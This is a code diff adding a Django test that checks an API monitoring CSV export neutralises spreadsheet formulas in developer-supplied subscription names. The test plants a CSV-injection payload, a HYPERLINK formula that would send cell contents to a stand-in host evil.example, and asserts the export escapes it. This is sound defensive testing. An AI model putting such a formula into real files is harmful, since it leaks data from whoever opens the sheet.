@@ -198,3 +198,13 @@ def test_it_never_fails_on_garbage(client, admin_user, demo_api, value):
     for name in ("range", "start", "end", "api", "operation", "product", "subscription", "developer", "outcome"):
         assert get(client, **{name: value}).status_code == 200, name
         assert client.get(reverse("monitoring-export"), {name: value}).status_code in (200, 400), name
+
+
+def test_the_csv_keeps_names_developers_typed_from_running_as_formulas(client, admin_user, make_call, alice_sub):
+    alice_sub.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    alice_sub.save()
+    make_call(alice_sub)
+    client.force_login(admin_user)
+    text = client.get(reverse("monitoring-export"), {"range": "24h"}).content.decode()
+    assert "'=HYPERLINK" in text
+    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
